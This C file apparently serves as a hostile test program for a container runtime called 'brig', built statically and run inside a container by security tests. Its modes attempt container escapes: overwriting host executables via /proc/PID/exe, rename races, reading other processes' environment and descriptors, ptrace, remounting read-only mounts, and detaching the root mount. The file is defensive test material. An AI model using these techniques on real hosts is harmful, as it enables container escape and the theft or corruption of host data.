/* SPDX-License-Identifier: Apache-2.0 */
/* What a hostile program in a container does: the security bats files build it statically and put
 * it there.
 *
 *	attack swap A B		exchanges two names for ever
 *	attack write		tries for ever to open what other processes execute for writing
 *	attack occupy FILE	opens a file for writing again and again, without a pause
 *	attack look [PROC]	tries for ever to look into a brig on its way into the container, or
 *that is in another procfs
 *	attack new PROC		the same as fast as it can: opens the roots of the newest processes
 *	attack words WORD	looks for ever for a word in what anybody may read of such a brig
 *	attack fds PID		opens what the descriptors of a process lead to
 *	attack unlock FILE	tries to have the mount that a file is on made writable
 *	attack peel NAME...	takes the root's mount away and looks for names in what is below
 *	attack own PROGRAM...	executes it as root in user, mount and cgroup namespaces of its own
 *
 * A line for each attempt that succeeded; "seen" when there was something to attack. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* The procfs that is looked at. */
static const char *proc = "/proc";

static bool of_brig(const char *pid)
{
	char path[64], name[17] = "";
	int fd;

	snprintf(path, sizeof(path), "%s/%s/comm", proc, pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return false;
	if (read(fd, name, sizeof(name) - 1) < 0)
		name[0] = '\0';
	close(fd);
	return strncmp(name, "brig", 4) == 0;
}

static void say_once(const char *word)
{
	static const char *said[16];

	for (size_t i = 0; i < 16; i++) {
		if (said[i] && strcmp(said[i], word) == 0)
			return;
		if (!said[i]) {
			said[i] = strdup(word);
			puts(word);
			return;
		}
	}
}

/* What a descriptor is good for that was not ours to have. */
static void describe(const char *how, const char *path, int fd)
{
	char name[64], target[4096] = "", line[4300];
	struct statfs fs = {0};

	snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
	if (readlink(name, target, sizeof(target) - 1) < 0)
		target[0] = '\0';
	fstatfs(fd, &fs);
	snprintf(line, sizeof(line), "%s %s: %s (%lx)", how, path, target, (long)fs.f_type);
	puts(line);
}

static void for_each_pid(void (*f)(const char *pid))
{
	DIR *d = opendir(proc);
	const struct dirent *e;

	while (d && (e = readdir(d)))
		if (isdigit(e->d_name[0]) && atoi(e->d_name) != getpid())
			f(e->d_name);
	if (d)
		closedir(d);
}

/* --- swap */

static int swap(const char *a, const char *b)
{
	puts("swapping");
	for (;;) {
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
			return perror("attack: exchange"), 1;
		usleep(30); /* without it the victim hardly ever gets anywhere */
	}
}

/* --- write */

enum { KEPT = 64 };
static int kept[KEPT];
static size_t n_kept;

/* What the container has itself is its own to look at and to write to. */
static bool is_ours(int fd)
{
	static const char *const files[] = {"/", "/bin/busybox"};
	struct stat one, two;

	if (fstat(fd, &one) < 0)
		return false;
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++)
		if (stat(files[i], &two) == 0 && one.st_dev == two.st_dev &&
			one.st_ino == two.st_ino)
			return true;
	return false;
}

static void try_write(int fd)
{
	static const int modes[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC};
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
		int again = open(path, modes[i]);
		struct stat st;

		if (again < 0)
			continue;
		/* A sealed file can be opened, but not changed. */
		if (write(again, "", 1) == 1 || (fstat(again, &st) == 0 && st.st_size == 0))
			describe("written", path, fd);
		close(again);
	}
	if (truncate(path, 0) == 0)
		describe("truncated", path, fd);
}

/* Held open, so that it can be tried again when nobody executes it. */
static void take_exe(const char *pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "%s/%s/exe", proc, pid);
	if (!of_brig(pid))
		return;
	say_once("seen");
	fd = open(path, O_PATH);
	if (fd < 0)
		return;
	if (is_ours(fd)) {
		close(fd);
		return;
	}
	say_once("taken");
	if (n_kept == KEPT)
		close(kept[--n_kept]);
	kept[n_kept++] = fd;
}

static _Noreturn void write_forever(void)
{
	puts("writing");
	for (;;) {
		for_each_pid(take_exe);
		for (size_t i = 0; i < n_kept; i++)
			try_write(kept[i]);
	}
}

/* --- occupy */

static int occupy(const char *file)
{
	char path[64];
	int fd = open(file, O_PATH), again;

	if (fd < 0)
		return perror("attack: open"), 1;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	puts("seen");
	for (;;) {
		again = open(path, O_WRONLY);
		if (again >= 0)
			close(again);
	}
}

/* --- look */

static void look_at_link(const char *pid, const char *what)
{
	char path[300];
	int fd;

	snprintf(path, sizeof(path), "%s/%s/%s", proc, pid, what);
	fd = open(path, O_PATH);
	if (fd < 0)
		return;
	if (of_brig(pid) && !is_ours(fd))
		describe("opened", what, fd);
	close(fd);
}

static void look_at_file(const char *pid, const char *what)
{
	char path[300], byte;
	int fd;

	snprintf(path, sizeof(path), "%s/%s/%s", proc, pid, what);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	if (read(fd, &byte, 1) > 0 && of_brig(pid))
		describe("read", what, fd);
	close(fd);
}

static void look_at_fds(const char *pid)
{
	char path[64], name[280];
	const struct dirent *e;
	DIR *d;

	snprintf(path, sizeof(path), "%s/%s/fd", proc, pid);
	d = opendir(path);
	while (d && (e = readdir(d))) {
		snprintf(name, sizeof(name), "fd/%s", e->d_name);
		if (isdigit(e->d_name[0]) && atoi(e->d_name) > 2)
			look_at_link(pid, name);
	}
	if (d)
		closedir(d);
}

static void trace(const char *pid)
{
	if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) < 0)
		return;
	if (of_brig(pid))
		puts("traced");
	ptrace(PTRACE_INTERRUPT, atoi(pid), NULL, NULL);
	waitpid(atoi(pid), NULL, __WALL);
	ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
}

static void look_into(const char *pid)
{
	if (!of_brig(pid))
		return;
	say_once("seen");
	look_at_link(pid, "root");
	look_at_link(pid, "cwd");
	look_at_link(pid, "exe");
	look_at_file(pid, "environ");
	look_at_file(pid, "maps");
	look_at_fds(pid);
	if (strcmp(proc, "/proc") == 0) /* where its number is ours too */
		trace(pid);
}

static _Noreturn void look_forever(void)
{
	puts("looking");
	for (;;)
		for_each_pid(look_into);
}

/* --- new */

enum { NEWEST = 32, AGAIN = 200 };

static bool exists(int pid)
{
	char path[64];
	struct stat st;

	snprintf(path, sizeof(path), "%s/%d", proc, pid);
	return stat(path, &st) == 0;
}

static int last_pid;

static void note_last(const char *pid)
{
	if (last_pid && atoi(pid) > last_pid)
		say_once("seen");
	last_pid = atoi(pid) > last_pid ? atoi(pid) : last_pid;
}

static void open_root(int pid)
{
	char path[64], name[16];
	int fd;

	snprintf(name, sizeof(name), "%d", pid);
	snprintf(path, sizeof(path), "%s/%d/root", proc, pid);
	fd = open(path, O_PATH | O_DIRECTORY);
	if (fd < 0)
		return;
	if (of_brig(name) && !is_ours(fd) && faccessat(fd, "host/proc", F_OK, 0) < 0)
		describe("opened", "root", fd);
	close(fd);
}

static _Noreturn void look_at_newest(void)
{
	puts("looking");
	for (unsigned i = 0;; i++) {
		if (i % AGAIN == 0)
			for_each_pid(note_last);
		for (int pid = last_pid + NEWEST; pid > last_pid; pid--)
			if (exists(pid)) {
				last_pid = pid;
				say_once("seen");
			}
		for (int pid = last_pid; pid > last_pid - NEWEST / 4; pid--)
			open_root(pid);
	}
}

/* --- words */

static const char *word;

static void look_for_word(const char *pid)
{
	static const char *const files[] = {"cmdline", "environ", "mountinfo"};

	for (size_t i = 0; i < 3 && of_brig(pid); i++) {
		static char text[1 << 16];
		char path[300];
		ssize_t n;
		int fd;

		snprintf(path, sizeof(path), "%s/%s/%s", proc, pid, files[i]);
		fd = open(path, O_RDONLY);
		n = fd >= 0 ? read(fd, text, sizeof(text)) : -1;
		if (fd >= 0)
			close(fd);
		if (n > 0)
			say_once("seen");
		/* After the reading: what it executes meanwhile may have the word. */
		if (n > 0 && of_brig(pid) && memmem(text, (size_t)n, word, strlen(word)))
			printf("%s of %s has %s\n", files[i], pid, word);
	}
}

static _Noreturn void look_for_words(void)
{
	puts("looking");
	for (;;)
		for_each_pid(look_for_word);
}

/* --- fds */

static void open_again(const char *pid, const char *fd)
{
	char path[300];
	int again;

	snprintf(path, sizeof(path), "%s/%s/fd/%s", proc, pid, fd);
	again = open(path, O_PATH);
	if (again < 0)
		return;
	describe("opened", fd, again);
	close(again);
}

static int open_fds(const char *pid)
{
	char path[64];
	const struct dirent *e;
	DIR *d;

	snprintf(path, sizeof(path), "%s/%s/fd", proc, pid);
	d = opendir(path);
	while (d && (e = readdir(d)))
		if (isdigit(e->d_name[0]) && atoi(e->d_name) > 2)
			open_again(pid, e->d_name);
	puts("looked");
	return 0;
}

/* --- unlock */

static int unlock(const char *file)
{
	struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
	int fd = open(file, O_PATH), tree;
	char path[64];

	if (fd < 0)
		return perror("attack: open"), 1;
	puts("seen");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (mount_setattr(fd, "", AT_EMPTY_PATH, &writable, sizeof(writable)) == 0)
		puts("changed");
	if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		puts("remounted");
	tree = open_tree(fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
	if (tree >= 0)
		puts("cloned");
	if (mount(path, "/tmp", NULL, MS_BIND, NULL) == 0)
		puts("bound");
	if (move_mount(fd, "", AT_FDCWD, "/tmp", MOVE_MOUNT_F_EMPTY_PATH) == 0)
		puts("moved");
	try_write(fd);
	return 0;
}

/* --- peel */

static int peel(char **names)
{
	int ns = open("/proc/self/ns/mnt", O_RDONLY);

	if (ns < 0)
		return perror("attack: open"), 1;
	puts("seen");
	if (umount2("/", MNT_DETACH) < 0 || setns(ns, CLONE_NEWNS) < 0)
		return puts("stays"), 0;
	for (; *names; names++)
		if (access(*names, F_OK) == 0)
			printf("found %s\n", *names);
	return 0;
}

/* --- own */

static void put(const char *file, const char *format, unsigned id)
{
	int fd = open(file, O_WRONLY);

	if (fd < 0 || dprintf(fd, format, id) < 0)
		perror(file);
	close(fd);
}

/* A program as root in a user, mount and cgroup namespace of its own. */
static int own(char **argv)
{
	const unsigned uid = getuid(), gid = getgid();

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
		return perror("attack: unshare"), 1;
	put("/proc/self/setgroups", "deny", 0);
	put("/proc/self/uid_map", "0 %u 1", uid);
	put("/proc/self/gid_map", "0 %u 1", gid);
	execvp(argv[0], argv);
	return perror("attack: execute"), 1;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 4 && strcmp(argv[1], "swap") == 0)
		return swap(argv[2], argv[3]);
	if (argc == 2 && strcmp(argv[1], "write") == 0)
		write_forever();
	if (argc == 3 && strcmp(argv[1], "occupy") == 0)
		return occupy(argv[2]);
	if ((argc == 2 || argc == 3) && strcmp(argv[1], "look") == 0) {
		proc = argc == 3 ? argv[2] : proc;
		look_forever();
	}
	if (argc == 3 && strcmp(argv[1], "new") == 0) {
		proc = argv[2];
		look_at_newest();
	}
	if (argc == 3 && strcmp(argv[1], "words") == 0) {
		word = argv[2];
		look_for_words();
	}
	if (argc == 3 && strcmp(argv[1], "fds") == 0)
		return open_fds(argv[2]);
	if (argc == 3 && strcmp(argv[1], "unlock") == 0)
		return unlock(argv[2]);
	if (argc > 2 && strcmp(argv[1], "peel") == 0)
		return peel(argv + 2);
	if (argc > 2 && strcmp(argv[1], "own") == 0)
		return own(argv + 2);
	return fputs("attack: see the top of attack.c\n", stderr), 2;
}
